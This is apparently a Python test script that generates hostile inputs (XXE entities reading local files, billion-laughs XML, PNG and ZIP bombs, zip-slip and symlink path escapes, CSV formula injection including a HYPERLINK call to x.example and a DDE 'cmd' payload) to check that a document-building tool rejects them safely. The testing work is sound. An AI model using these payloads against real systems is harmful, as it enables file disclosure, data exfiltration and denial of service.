#!/usr/bin/env python3
"""Hostile inputs: each case makes its files, runs dossier on them with the good
samples in the same batch, and asserts the exit status, the problem's code and
message, a bounded time and memory (of the largest process, /usr/bin/time), and that
the good records came out intact (their containers verify).

usage: run.py DOSSIER [FILTER]
Under ASan (SAN_FLAGS set) time and memory bounds are relaxed: the sanitizer's
shadow memory and checks are not the tool's.
"""
import csv, io, os, shutil, struct, subprocess, sys, tempfile, time, zipfile, zlib

DOSSIER = os.path.abspath(sys.argv[1])
FILTER = sys.argv[2] if len(sys.argv) > 2 else ""
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SAMPLES = os.path.join(ROOT, "samples")
SAN = bool(os.environ.get("SAN_FLAGS", "").strip())
TIME_FACTOR, MEM_FACTOR = (6, 6) if SAN else (1, 1)
if SAN:
    # ASan keeps freed memory in quarantine (256 MB by default): that is the
    # sanitizer's memory, not the tool's.
    os.environ["ASAN_OPTIONS"] = (os.environ.get("ASAN_OPTIONS", "") + ":quarantine_size_mb=16").lstrip(":")
MEM_MB = 64                     # issue #12: every limit in bounded memory

rows = list(csv.DictReader(open(os.path.join(SAMPLES, "demandes.csv"), encoding="utf-8-sig"), delimiter=";"))
HEADER = list(rows[0])
GOOD = [r for r in rows if r["numero"] in ("600106", "600110")]     # no pieces: fast


def write_csv(path, records, encoding="utf-8"):
    with open(path, "w", encoding=encoding, newline="") as f:
        w = csv.DictWriter(f, fieldnames=HEADER, delimiter=";")
        w.writeheader()
        for r in records:
            w.writerow(r)


def record(numero, **fields):
    r = dict(GOOD[0])
    r["numero"] = str(numero)
    r.update({k.replace("__", "."): v for k, v in fields.items()})
    return r


class Case:
    def __init__(self, name, make, args, status, code=None, message=None, seconds=10, mem_mb=MEM_MB,
                 good=True, check=None, stdin=None):
        self.name, self.make, self.args, self.status = name, make, args, status
        self.code, self.message, self.seconds, self.mem_mb = code, message, seconds, mem_mb
        self.good, self.check, self.stdin = good, check, stdin


def run(case, work):
    os.chdir(work)
    write_csv("good.csv", GOOD)
    case.make()
    args = [a.replace("{good}", "good.csv") for a in case.args]
    start = time.monotonic()
    p = subprocess.run(["/usr/bin/time", "-f", "%M", DOSSIER] + args, capture_output=True, text=True,
                       errors="replace", timeout=max(60, case.seconds * TIME_FACTOR * 4))
    elapsed = time.monotonic() - start
    lines = p.stderr.rstrip("\n").split("\n")
    rss_mb = int(lines[-1]) / 1024 if lines and lines[-1].isdigit() else 0
    stderr = "\n".join(lines[:-1])
    out = p.stdout + stderr
    fail = []
    if p.returncode != case.status:
        fail.append("code de sortie %d au lieu de %d" % (p.returncode, case.status))
    if case.code and "[%s]" % case.code not in out and case.code not in open_report():
        fail.append("code [%s] absent" % case.code)
    if case.message and case.message not in out and case.message not in open_report():
        fail.append("message « %s » absent" % case.message)
    if elapsed > case.seconds * TIME_FACTOR:
        fail.append("%.1f s (limite %d s)" % (elapsed, case.seconds * TIME_FACTOR))
    if rss_mb > case.mem_mb * MEM_FACTOR:
        fail.append("%.0f Mo de mémoire (limite %d Mo)" % (rss_mb, case.mem_mb * MEM_FACTOR))
    if case.good:
        for r in GOOD:
            z = os.path.join("out", r["numero"] + ".zip")
            if not os.path.exists(z):
                fail.append("la bonne demande %s n'est pas faite" % r["numero"])
                continue
            v = subprocess.run([DOSSIER, "verify", z], capture_output=True, text=True)
            if v.returncode != 0:
                fail.append("%s ne se vérifie pas : %s" % (z, v.stdout.strip()))
        leftovers = [f for f in os.listdir("out") if ".tmp" in f] if os.path.isdir("out") else []
        if leftovers:
            fail.append("fichiers temporaires restés : %s" % leftovers)
    if case.check and not fail:
        why = case.check(out)
        if why:
            fail.append(why)
    return fail, elapsed, rss_mb, out


def open_report():
    try:
        return open("out/report.json", encoding="utf-8").read()
    except OSError:
        return ""


# --- CSV ----------------------------------------------------------------------------

def million_columns():
    with open("wide.csv", "w") as f:
        f.write(";".join("c%d" % i for i in range(1000000)) + "\n1;2;3\n")


def huge_field():
    with open("huge.csv", "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=HEADER, delimiter=";")
        w.writeheader()
        w.writerow(record(700001))
        r = record(700002)
        r["titulaire.nom"] = "A" * (100 * 1024 * 1024)
        w.writerow(r)
        w.writerow(record(700003))


def nul_byte():
    write_csv("nul.csv", [record(700001), record(700002, titulaire__nom="Mar\0tin"), record(700003)])


def invalid_utf8():
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=HEADER, delimiter=";")
    w.writeheader()
    for r in (record(700001), record(700002, titulaire__nom="XBADX"), record(700003)):
        w.writerow(r)
    data = b"\xef\xbb\xbf" + buf.getvalue().encode().replace(b"XBADX", b"Mart\xc3\x28in")
    open("bad-utf8.csv", "wb").write(data)


def cp1252_stray_utf8():
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=HEADER, delimiter=";")
    w.writeheader()
    for r in (record(700001, titulaire__nom="Lefèvre"), record(700002, titulaire__nom="XBADX"), record(700003)):
        w.writerow(r)
    data = buf.getvalue().encode("cp1252").replace(b"XBADX", "René".encode("utf-8"))
    open("mixed.csv", "wb").write(data)


FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")"


def formula_everywhere():
    r = record(700001)
    for k in HEADER:
        if k.startswith(("titulaire.", "organisation.", "facturation.", "rl.", "responsable.")) and r[k] and \
                not any(s in k for s in ("siren", "nic", "email", "tel", "categorie", "code_postal", "est_rl",
                                         "naissance", "pays", "civilite", "type")):
            r[k] = "=cmd|' /C calc'!A0 " + k
    r2 = record(700002, titulaire__email=FORMULA)    # rejected: the value is echoed
    write_csv("formula.csv", [r, r2])


def formula_check(out):
    rep = open("out/report.csv", encoding="utf-8-sig").read()
    for row in csv.reader(io.StringIO(rep), delimiter=";"):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@"):
                return "cellule non neutralisée dans report.csv : %r" % cell[:60]
    if "=HYPERLINK" not in rep and "HYPERLINK" not in rep:
        return "la valeur refusée n'est pas citée dans report.csv"
    if not os.path.exists("out/700001.zip"):
        return "la demande aux formules n'est pas faite"
    with zipfile.ZipFile("out/700001.zip") as z:
        pdf = [n for n in z.namelist() if n.endswith(".pdf")][0]
        open("f.pdf", "wb").write(z.read(pdf))
    text = subprocess.run(["pdftotext", "f.pdf", "-"], capture_output=True, text=True).stdout
    if "=cmd|' /C calc'!A0" not in text:
        return "la formule n'est pas imprimée telle quelle dans le PDF"
    return None


# --- XML ----------------------------------------------------------------------------

FIRST = open(os.path.join(SAMPLES, "demandes.xml"), encoding="utf-8").read()
DEMANDE = FIRST[FIRST.index("<demande>"):FIRST.index("</demande>") + len("</demande>")]


def xml_with(name, doctype, value, encoding="utf-8", bom=b""):
    body = DEMANDE.replace("<nom>Martin</nom>", "<nom>%s</nom>" % value, 1)
    text = '<?xml version="1.0" encoding="%s"?>\n%s\n<demandes>%s</demandes>\n' % (
        "UTF-16" if encoding.startswith("utf-16") else "UTF-8", doctype, body)
    open(name, "wb").write(bom + text.encode(encoding))


def no_secret(out):
    return "secret leaked" if "SECRET-MARKER-42" in out or "SECRET-MARKER-42" in open_report() else None


def big_xml():
    # 8 MB of requests (4,700 records) in one XML file, read as a stream.
    body = DEMANDE
    out = ['<?xml version="1.0" encoding="UTF-8"?>\n<demandes>']
    size, n = 0, 0
    while size < 8 * 1024 * 1024:
        rec = body.replace("<numero>600101</numero>", "<numero>%d</numero>" % (800000 + n), 1)
        out.append(rec)
        size += len(rec)
        n += 1
    out.append("</demandes>\n")
    open("big.xml", "w", encoding="utf-8").write("\n".join(out))


def xxe_file():
    open("secret.txt", "w").write("SECRET-MARKER-42")
    xml_with("xxe.xml", '<!DOCTYPE demandes [<!ENTITY x SYSTEM "file://%s/secret.txt">]>' % os.getcwd(), "&x;")


def xxe_network():
    xml_with("net.xml", '<!DOCTYPE demandes [<!ENTITY x SYSTEM "http://10.255.255.1/x">]>', "&x;")


def xxe_parameter():
    open("secret.txt", "w").write("SECRET-MARKER-42")
    open("evil.dtd", "w").write('<!ENTITY % all "<!ENTITY x SYSTEM \'file:///etc/hostname\'>">')
    xml_with("param.xml", '<!DOCTYPE demandes [<!ENTITY %% p SYSTEM "file://%s/evil.dtd"> %%p; %%all;]>'
             % os.getcwd(), "&x;")


def billion_laughs():
    ents = '<!ENTITY l0 "ha">' + "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
    xml_with("laughs.xml", "<!DOCTYPE demandes [%s]>" % ents, "&l9;")


def quadratic():
    xml_with("quad.xml", '<!DOCTYPE demandes [<!ENTITY a "%s">]>' % ("x" * 50000), "&a;" * 50000)


def utf16_doctype():
    xml_with("u16.xml", '<!DOCTYPE demandes [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;",
             encoding="utf-16-le", bom=b"\xff\xfe")


# --- pieces -------------------------------------------------------------------------

def with_piece(name, data=None, path=None):
    os.makedirs("p", exist_ok=True)
    if data is not None:
        open(os.path.join("p", name), "wb").write(data)
    write_csv("pieces.csv", [record(700001, pieces__id_titulaire=path or name)])


def jpeg_lie():
    jpg = open(os.path.join(SAMPLES, "pieces", "cni-jeanne-martin.jpg"), "rb").read()
    i = jpg.index(b"\xff\xc0") if b"\xff\xc0" in jpg else jpg.index(b"\xff\xc2")
    lie = jpg[:i + 5] + struct.pack(">HH", 60000, 60000) + jpg[i + 9:]
    with_piece("lie.jpg", lie)


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)


def png_bomb():
    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0)
    raw = zlib.compress(b"\0" * (30001 * 200), 9)
    with_piece("bomb.png", b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", raw) +
               png_chunk(b"IEND", b""))


def exif_loop():
    jpg = open(os.path.join(SAMPLES, "pieces", "cni-jeanne-martin.jpg"), "rb").read()
    # APP1 Exif, II, IFD0 at 8 with one entry and a next-IFD offset pointing to itself.
    tiff = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 1) + \
        struct.pack("<HHII", 0x0100, 3, 1, 640) + struct.pack("<I", 8)
    app1 = b"Exif\x00\x00" + tiff
    with_piece("loop.jpg", jpg[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + jpg[2:])


def pdf_many_pages():
    kids = " ".join("%d 0 R" % (4 + i) for i in range(5000))
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [%s] /Count 5000 >>" % kids, "<< >>"]
    objs += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * 5000
    out = b"%PDF-1.4\n"
    offsets = []
    for i, o in enumerate(objs):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, o.encode())
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    with_piece("pages.pdf", out)


def symlink_escape():
    os.makedirs("p", exist_ok=True)
    os.symlink("/etc/passwd", "p/link.jpg")
    with_piece("link.jpg")


def dotdot():
    os.makedirs("p", exist_ok=True)
    shutil.copy(os.path.join(SAMPLES, "pieces", "cni-jeanne-martin.jpg"), "outside.jpg")
    with_piece(None, path="../outside.jpg")


def fifo():
    os.makedirs("p", exist_ok=True)
    os.mkfifo("p/fifo.jpg")
    with_piece("fifo.jpg")


def device():
    with_piece(None, path="/dev/zero")


# --- containers ---------------------------------------------------------------------

def zip_raw(entries, name="c.zip", extra_central=None):
    """A ZIP written by hand: ENTRIES are (name, data, declared_size or None)."""
    out, central = b"", b""
    for n, data, declared in entries:
        n = n.encode()
        crc = zlib.crc32(data) & 0xffffffff
        size = len(data) if declared is None else declared
        local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0x800, 0, 0, 0, crc, len(data), size, len(n), 0)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0x800, 0, 0, 0, crc, len(data), size,
                               len(n), 0, 0, 0, 0, 0, len(out)) + n
        out += local + n + data
    count = len(entries)
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, count & 0xffff, count & 0xffff, len(central), len(out), 0)
    open(name, "wb").write(out + central + end)


MIMETYPE = ("mimetype", b"application/vnd.etsi.asic-e+zip", None)


def zip_many():
    zip_raw([MIMETYPE] + [("f%06d.txt" % i, b"", None) for i in range(100000)])


def zip_4gb():
    zip_raw([MIMETYPE, ("big.pdf", b"%PDF-1.4 tiny", 0xfffffff0)])


def zip_dotdot():
    zip_raw([MIMETYPE, ("../../evil.pdf", b"%PDF-1.4", None), ("META-INF/ASiCManifest.xml", b"<x/>", None)])


def zip_dup():
    zip_raw([MIMETYPE, ("a.pdf", b"%PDF-1.4 one", None), ("a.pdf", b"%PDF-1.4 two", None)])


def zip64_trick():
    # An end record claiming 0xFFFF entries and a central directory at 0xFFFFFFFF:
    # "see the ZIP64 record", which is not there.
    zip_raw([MIMETYPE])
    data = bytearray(open("c.zip", "rb").read())
    end = data.rindex(b"PK\x05\x06")
    data[end + 8:end + 12] = b"\xff\xff\xff\xff"
    data[end + 16:end + 20] = b"\xff\xff\xff\xff"
    open("c.zip", "wb").write(bytes(data))


def nothing():
    pass


BUILD = ["build", "-q", "-j", "1", "-o", "out"]
CASES = [
    # CSV
    Case("csv-1e6-colonnes", million_columns, BUILD + ["wide.csv", "{good}"], 1, "csv.header", "colonnes",
         seconds=5),
    Case("csv-champ-100-Mo", huge_field, BUILD + ["huge.csv", "{good}"], 1, "csv.too_long", seconds=20),
    Case("csv-octet-nul", nul_byte, BUILD + ["nul.csv", "{good}"], 1, "csv.encoding", "octet nul"),
    Case("csv-utf8-invalide", invalid_utf8, BUILD + ["bad-utf8.csv", "{good}"], 1, "csv.encoding", "invalide en UTF-8"),
    Case("csv-cp1252-et-utf8", cp1252_stray_utf8, BUILD + ["mixed.csv", "{good}"], 1, "csv.encoding",
         "mélange deux encodages"),
    Case("formules", formula_everywhere, BUILD + ["formula.csv", "{good}"], 1, check=formula_check, seconds=20),
    # XML
    Case("xml-8-Mo", big_xml, ["validate", "-q", "-o", "out", "big.xml", "{good}"], 1, "piece.missing", seconds=10,
         good=False),
    Case("xxe-fichier", xxe_file, BUILD + ["xxe.xml", "{good}"], 1, "xml.dtd", check=no_secret),
    Case("xxe-reseau", xxe_network, BUILD + ["net.xml", "{good}"], 1, "xml.dtd", seconds=5),
    Case("xxe-parametre", xxe_parameter, BUILD + ["param.xml", "{good}"], 1, "xml.dtd", check=no_secret),
    Case("milliard-de-rires", billion_laughs, BUILD + ["laughs.xml", "{good}"], 1, "xml.dtd", seconds=5),
    Case("explosion-quadratique", quadratic, BUILD + ["quad.xml", "{good}"], 1, "xml.dtd", seconds=5),
    Case("utf16-doctype", utf16_doctype, BUILD + ["u16.xml", "{good}"], 1, "xml.dtd", seconds=5),
    # Pieces
    Case("jpeg-dimensions-mensongeres", jpeg_lie, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1,
         "piece.too_large_image"),
    Case("png-bombe", png_bomb, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1, "piece.too_large_image"),
    Case("exif-boucle", exif_loop, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 0, seconds=20),
    Case("pdf-5000-pages", pdf_many_pages, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1,
         "piece.too_many_pages", seconds=20),
    Case("lien-symbolique", symlink_escape, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1, "piece.outside_root"),
    Case("chemin-point-point", dotdot, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1, "piece.outside_root"),
    Case("fifo", fifo, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1, "piece.not_file"),
    Case("peripherique", device, BUILD + ["--pieces-dir", "p", "pieces.csv", "{good}"], 1, "piece.absolute"),
    # Containers
    Case("zip-100000-entrees", zip_many, ["verify", "c.zip"], 1, "zip.too_many_entries", seconds=10, good=False),
    Case("zip-4-Go-annonces", zip_4gb, ["verify", "c.zip"], 1, "zip.bomb", good=False),
    Case("zip-noms-point-point", zip_dotdot, ["verify", "c.zip"], 1, "name.unsafe", good=False),
    Case("zip-nom-en-double", zip_dup, ["verify", "c.zip"], 1, "name.duplicate", good=False),
    Case("zip64-truque", zip64_trick, ["verify", "c.zip"], 1, "zip.corrupt", good=False),
]


def main():
    failed = 0
    for case in CASES:
        if FILTER and FILTER not in case.name:
            continue
        work = tempfile.mkdtemp(prefix="hostile-")
        here = os.getcwd()
        try:
            fail, elapsed, rss, out = run(case, work)
        except Exception as e:          # a case that cannot even run is a failure
            fail, elapsed, rss, out = ["%s: %s" % (type(e).__name__, e)], 0, 0, ""
        finally:
            os.chdir(here)
            shutil.rmtree(work, ignore_errors=True)
        if fail:
            failed += 1
            print("FAIL %-28s %5.1f s %4.0f Mo  %s" % (case.name, elapsed, rss, "; ".join(fail)))
            for line in out.strip().split("\n")[:6]:
                print("     | " + line[:200])
        else:
            print("ok   %-28s %5.1f s %4.0f Mo" % (case.name, elapsed, rss))
    print("hostile: %d cas en échec" % failed)
    return 1 if failed else 0


sys.exit(main())
